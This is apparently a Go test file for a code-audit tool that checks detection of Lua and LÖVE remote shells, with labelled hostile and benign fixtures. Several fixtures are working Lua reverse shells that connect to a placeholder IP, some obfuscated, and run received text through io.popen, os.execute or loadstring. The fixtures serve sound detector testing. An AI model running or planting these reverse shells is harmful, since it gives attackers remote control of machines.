package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestLuaRemoteConsole: a Lua program that reads a socket and runs what
// arrived is a remote shell however the run is written: a shell command
// line with the received text where a command goes (line .. " 2>&1",
// ("sh -c '%s'"):format(line)), load or loadstring of the text (a remote
// Lua console), the text handed over a LÖVE channel from the thread that
// reads the socket (its code a string in the file or a file it names) to
// the main thread that loads it, or to a function of a required module
// that runs its parameter: critical; text joined into a chunk to load
// ("return " .. data) is high. A console that runs only what is typed
// locally (love.textinput, io.stdin) and a LuaSocket client that fetches
// JSON and prints what a server says are not findings.
func TestLuaRemoteConsole(t *testing.T) {
	crit, high, none := audit.Critical, audit.High, audit.SeverityNone
	thread := func(handle string) string {
		return "local M = {}\nlocal worker = [[\nlocal socket = require(\"socket\")\nlocal host, port = ...\nlocal ch = love.thread.getChannel(\"dbg.remote\")\nwhile true do\n  local c = socket.tcp()\n  if c:connect(host, port) then\n    while true do\n      local line = c:receive(\"*l\")\n      if not line then break end\n" + handle + "    end\n  end\n  socket.sleep(10)\nend\n]]\n" +
			"function M.start()\n  love.thread.newThread(worker):start(table.concat({ 203, 0, 113, 40 }, \".\"), 7000)\nend\nreturn M\n"
	}
	console := "local M = {}\nlocal ch\nfunction M.start()\n  ch = love.thread.getChannel(\"dbg.remote\")\n  love.thread.newThread(\"dbg/listener.lua\"):start(\"203.0.113.40\", 7000)\nend\nfunction M.poll()\n  local src = ch:pop()\n  while src do\n    local fn = loadstring(src)\n    if fn then pcall(fn) end\n    src = ch:pop()\n  end\nend\nreturn M\n"
	listener := "local socket = require(\"socket\")\nlocal host, port = ...\nlocal out = love.thread.getChannel(\"dbg.remote\")\nlocal c = socket.tcp()\nif c:connect(host, port) then\n  while true do\n    local line = c:receive(\"*l\")\n    if not line then break end\n    out:push(line)\n  end\nend\n"
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/love-thread-popen-joined": {map[string]string{"dbg/remote.lua": thread("      local p = io.popen(line .. \" 2>&1\")\n      c:send((p and p:read(\"*a\") or \"\") .. \"\\n\")\n")}, crit},
		"hostile/love-channel-load":        {map[string]string{"dbg/remote.lua": thread("      ch:push(line)\n") + "function M.poll()\n  local chunk = love.thread.getChannel(\"dbg.remote\"):pop()\n  if chunk then pcall(load(chunk, \"=remote\")) end\nend\n"}, crit},
		"hostile/love-thread-file-channel": {map[string]string{"dbg/console.lua": console, "dbg/listener.lua": listener}, crit},
		"hostile/lua-required-runner": {map[string]string{
			"lib/runner.lua": "local M = {}\nfunction M.exec(cmd)\n  local p = io.popen(cmd .. \" 2>&1\")\n  local out = p:read(\"*a\")\n  p:close()\n  return out\nend\nreturn M\n",
			"lib/agent.lua":  "local socket = require(\"socket\")\nlocal runner = require(\"lib.runner\")\nlocal c = socket.connect(\"203.0.113.40\", 4444)\nwhile true do\n  local line = c:receive(\"*l\")\n  if not line then break end\n  c:send(runner.exec(line))\nend\n",
		}, crit},
		"hostile/luasocket-alias-format": {map[string]string{"agent.lua": "local s = require(\"socket\")\nlocal conn = s.connect(table.concat({ 203, 0, 113, 40 }, \".\"), 443)\nrepeat\n  local line, err = conn:receive()\n  if line then os.execute((\"sh -c '%s' >/dev/null 2>&1\"):format(line)) end\nuntil err == \"closed\"\n"}, crit},
		"hostile/luasocket-loadstring":   {map[string]string{"remote.lua": "local socket = require(\"socket\")\nlocal c = assert(socket.connect(\"203.0.113.40\", 9000))\nwhile true do\n  local msg = c:receive(\"*l\")\n  if msg then\n    local ok, res = pcall(loadstring(msg))\n    c:send(tostring(res) .. \"\\n\")\n  end\nend\n"}, crit},
		"hostile/udp-deserialize-load":   {map[string]string{"net.lua": "local socket = require(\"socket\")\nlocal udp = socket.udp()\nudp:setpeername(\"203.0.113.40\", 12345)\nfunction poll()\n  local data = udp:receive()\n  if data then\n    return loadstring(\"return \" .. data)()\n  end\nend\n"}, high},
		"benign/love-local-console":      {map[string]string{"dbg/console.lua": "local socket = require(\"socket\")\nlocal M = { buf = \"\" }\nlocal stats = socket.tcp()\nlocal motd = stats:receive(\"*l\")\nfunction love.textinput(t) M.buf = M.buf .. t end\nfunction love.keypressed(k)\n  if k == \"return\" then\n    local chunk = M.buf\n    local fn, err = load(chunk, \"=console\")\n    if fn then print(pcall(fn)) else print(err) end\n    M.buf = \"\"\n  end\nend\nfunction M.stdin()\n  local line = io.stdin:read(\"*l\")\n  local fn = load(line)\n  if fn then fn() end\nend\nreturn M\n"}, none},
		"benign/luasocket-json-client":   {map[string]string{"update.lua": "local http = require(\"socket.http\")\nlocal socket = require(\"socket\")\nlocal json = require(\"dkjson\")\nlocal M = {}\nfunction M.check(dir)\n  local body, code = http.request(\"https://api.example/latest.json\")\n  if code ~= 200 then return nil end\n  local data = json.decode(body)\n  os.execute(\"mkdir -p \" .. dir)\n  local c = socket.tcp()\n  c:connect(\"127.0.0.1\", 8000)\n  local line = c:receive(\"*l\")\n  print(\"server says \" .. tostring(line))\n  return data.version\nend\nreturn M\n"}, none},
	})
}
